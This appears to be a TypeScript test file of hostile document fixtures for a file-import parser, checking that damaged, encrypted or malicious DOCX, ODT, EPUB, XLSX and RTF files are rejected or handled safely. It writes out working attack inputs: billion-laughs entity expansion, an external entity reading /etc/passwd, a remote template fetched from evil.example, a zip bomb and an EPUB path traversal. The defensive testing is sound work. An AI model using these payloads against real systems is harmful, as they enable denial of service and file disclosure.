import { docxOf, epubOf, odtOf, wordParagraph, zipOf } from '../archives.ts';
import { comesIn, fails, story, type HostileCase } from './case.ts';

const word = docxOf(wordParagraph(story('a document')));

/** Entities that would grow to three thousand million letters. */
function laughs(inside: string): string {
  const entities = Array.from({ length: 9 }, (_, n) => {
    const before = n === 0 ? 'lol' : `lol${String(n)}`;
    return `<!ENTITY lol${String(n + 1)} "${`&${before};`.repeat(10)}">`;
  });
  return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY lol "lol">${entities.join('')}]>${inside}`;
}

function external(inside: string): string {
  return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>${inside}`;
}

const odtBody = (text: string): string =>
  `<office:document-content><office:body><office:text><text:p>${text}</text:p></office:text></office:body></office:document-content>`;
const docxBody = (text: string): string =>
  `<w:document><w:body>${wordParagraph(text)}</w:body></w:document>`;

/** What Office wraps an encrypted document in: an OLE container with a stream of that name. */
function container(stream: string): Uint8Array {
  const signature = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
  return Uint8Array.from([
    ...signature,
    ...new Uint8Array(1016),
    ...Buffer.from(stream, 'utf16le'),
    ...new Uint8Array(1024),
  ]);
}

const remote =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';

/** Documents that are damaged, locked, or made to grow, run or fetch something. */
export const documents: readonly HostileCase[] = [
  fails('truncated.docx', word.subarray(0, 900), /truncated/),
  fails('locked.docx', container('EncryptedPackage'), /encrypted with a password/),
  fails('old.doc', container('WordDocument'), /old Word document/),
  fails('outlook.msg', container('__substg1.0_0037001F'), /Outlook message/),
  fails(
    'laughs.docx',
    docxOf('', { 'word/document.xml': laughs(docxBody('&lol9;')) }),
    /declares entities/,
  ),
  fails(
    'outside entity.docx',
    docxOf('', { 'word/document.xml': external(docxBody('&secret;')) }),
    /declares entities/,
  ),
  fails('laughs.odt', odtOf('', { 'content.xml': laughs(odtBody('&lol9;')) }), /declares entities/),
  fails(
    'laughs.epub',
    epubOf([`<p>${story('laughs')}</p>`], '', { 'OEBPS/book.opf': laughs('<package/>') }),
    /declares entities/,
  ),
  fails('deep.docx', docxOf('<w:p>'.repeat(100_000)), /nested more than 500/),
  fails('deep.odt', odtOf('<text:span>'.repeat(20_000)), /nested more than 500/),
  fails('bomb.docx', docxOf(wordParagraph('a'.repeat(30_000_000))), /times larger than packed/),
  fails('scan.docx', docxOf('<w:p/>'), /picture/),
  comesIn(
    'macros.docx',
    docxOf(wordParagraph(story('macros')), {
      'word/vbaProject.bin': new Uint8Array(5000).fill(1),
      'word/_rels/settings.xml.rels': remote,
      'word/settings.xml': '<w:settings><w:attachedTemplate r:id="r9"/></w:settings>',
    }),
  ),
  fails(
    'no content.odt',
    zipOf({ mimetype: 'application/vnd.oasis.opendocument.text' }),
    /content/,
  ),
  fails(
    'locked.odt',
    odtOf('x', { 'META-INF/manifest.xml': '<m><manifest:encryption-data/></m>' }),
    /encrypted with a password/,
  ),
  fails(
    'protected.epub',
    epubOf(['<p>x</p>'], '', {
      'META-INF/encryption.xml': '<e><enc:CipherReference URI="OEBPS/text/c0 .xhtml"/></e>',
    }),
    /DRM/,
  ),
  fails(
    'chapter outside.epub',
    epubOf(['<p>x</p>'], '', {
      'OEBPS/book.opf':
        '<package><manifest><item id="a" href="../../../etc/passwd"/></manifest><spine><itemref idref="a"/></spine></package>',
    }),
    /no text in it/,
  ),
  fails(
    'laughs.xlsx',
    zipOf({ 'xl/workbook.xml': laughs('<workbook/>'), 'xl/worksheets/sheet1.xml': laughs('<w/>') }),
    /declares entities/,
  ),
  fails('slides.pptx', zipOf({ 'ppt/presentation.xml': '<p/>' }), /presentation/),
  fails('deep.rtf', `{\\rtf1 ${'{'.repeat(100_000)}deep${'}'.repeat(100_000)}}`, /nested/),
  comesIn('unclosed.rtf', `{\\rtf1 {\\b ${story('an unclosed group').trim()}`),
  comesIn('numbers.rtf', `{\\rtf1\\fs999999999999999999999\\u-99999999999? ${story('numbers')}}`),
];
